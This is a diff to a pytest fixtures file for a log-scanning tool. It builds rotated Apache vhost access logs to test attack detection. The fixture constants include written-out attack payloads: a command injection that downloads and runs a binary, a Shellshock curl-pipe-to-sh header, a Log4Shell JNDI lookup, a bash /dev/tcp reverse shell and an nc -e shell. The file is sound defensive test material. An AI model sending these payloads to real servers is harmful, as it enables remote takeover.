@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import gzip
 import json
 import os
+import tempfile
 from pathlib import Path
 
 import pytest
@@ -11,6 +13,9 @@ from typer.testing import CliRunner
 
 from dropscan.engine import default_signatures
 from dropscan.scanner import Scanner
+
+# compiled hyperscan databases: a per-session cache, never the user's ~/.cache
+os.environ.setdefault("DROPSCAN_CACHE_DIR", tempfile.mkdtemp(prefix="dropscan-test-cache-"))
 
 ROOT = Path(__file__).resolve().parents[1]
 SAMPLE_LOGS = ROOT / "sample_logs"
@@ -55,7 +60,7 @@ def full_scanner(sigs):
 @pytest.fixture(scope="session")
 def fast_scanner(sigs):
     sc = Scanner(sigs, fast=True)
-    if sc.prefilter is None:
+    if not sc.fast:
         pytest.skip("hyperscan is not installed: no fast path on this platform")
     return sc
 
@@ -92,3 +97,75 @@ def combined_line(
         f'{client} - - {when} "GET {apache_escape(target)} HTTP/1.1" {status} 100 '
         f'"{apache_escape(referer)}" "{apache_escape(ua)}"\n'
     ).encode()
+
+
+def vhost_line(
+    vhost: str,
+    target: str = "/",
+    *,
+    port: int = 443,
+    client: str = "203.0.113.1",
+    when: str = "27/Nov/2026:10:00:00 +0000",
+    status: int = 200,
+    ua: str = "Mozilla/5.0",
+    referer: str = "-",
+) -> bytes:
+    """A vhost_combined line (Debian's other_vhosts_access.log) as Apache would log it."""
+    return f"{vhost}:{port} ".encode() + combined_line(target, ua, referer, status, client, f"[{when}]")
+
+
+def dropscan_main(*args: str):
+    """Run the console entry point in a subprocess: how users see errors (one line, exit 2)."""
+    import subprocess
+    import sys
+
+    return subprocess.run(
+        [sys.executable, "-c", "from dropscan.cli import main; main()", *args], capture_output=True, text=True
+    )
+
+
+# --- a vhost_combined log set for the egress report and rules -----------------------------------
+WGET = "/cgi-bin/ping.cgi?ip=1.1.1.1;wget%20http://198.51.100.20:8080/bins/x86%20-O%20/tmp/x;chmod%20+x%20/tmp/x;/tmp/x"
+SHELLSHOCK = "() { :; }; /bin/bash -c 'curl -fsSL https://malware.example/i.sh | sh'"
+JNDI_V6 = "/api/search?q=${jndi:ldap://[2001:db8::66]:1389/Exploit}"
+DEVTCP = "/x?c=;bash%20-i%20%3E%26%20/dev/tcp/203.0.113.77/9001%200%3E%261"
+NC_LOOPBACK = "/diag?cmd=nc%20127.0.0.1%204444%20-e%20/bin/sh"
+
+
+def write_vhost_logs(d):
+    """Three rotated files, oldest gzip'd, whose attacks hit some vhosts and not others (the
+    expected report is in test_report.py). blog.example.com is never attacked (its 'wget' is a
+    search), legacy.example.com only probed (no destination)."""
+    d.mkdir()
+    oldest = [
+        vhost_line("shop.example.com", "/", client="198.51.100.7", when="25/Nov/2026:23:59:58 +0000"),
+        vhost_line("shop.example.com", WGET, client="203.0.113.10", when="26/Nov/2026:08:00:00 +0000"),
+        vhost_line(
+            "blog.example.com", "/search?q=how+to+use+wget", client="192.0.2.30", when="26/Nov/2026:08:01:00 +0000"
+        ),
+    ]
+    (d / "other_vhosts_access.log.2.gz").write_bytes(gzip.compress(b"".join(oldest)))
+    middle = [
+        vhost_line("shop.example.com", WGET, client="203.0.113.10", when="26/Nov/2026:09:00:00 +0000", status=404),
+        vhost_line("api.example.com", JNDI_V6, client="203.0.113.11", when="26/Nov/2026:09:30:00 +0000", status=400),
+        vhost_line("legacy.example.com", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", port=80,
+                   client="203.0.113.12", when="26/Nov/2026:10:00:00 +0000", status=404),
+        vhost_line("blog.example.com", "/2026/11/hello", client="192.0.2.31", when="26/Nov/2026:10:01:00 +0000"),
+    ]  # fmt: skip
+    (d / "other_vhosts_access.log.1").write_bytes(b"".join(middle))
+    newest = [
+        vhost_line("shop.example.com", "/", ua=SHELLSHOCK, client="203.0.113.13", when="27/Nov/2026:07:00:00 +0000"),
+        vhost_line("shop.example.com", DEVTCP, client="203.0.113.14", when="27/Nov/2026:07:05:00 +0000", status=500),
+        vhost_line(
+            "intranet.example.com", NC_LOOPBACK, port=80, client="203.0.113.15", when="27/Nov/2026:07:10:00 +0000"
+        ),
+        vhost_line("blog.example.com", "/feed", client="192.0.2.32", when="27/Nov/2026:07:11:00 +0000"),
+    ]
+    (d / "other_vhosts_access.log").write_bytes(b"".join(newest))
+    return d
+
+
+@pytest.fixture(scope="session")
+def vhost_logs(tmp_path_factory):
+    """A rotated vhost_combined log set (see `write_vhost_logs`)."""
+    return write_vhost_logs(tmp_path_factory.mktemp("vhosts") / "logs")
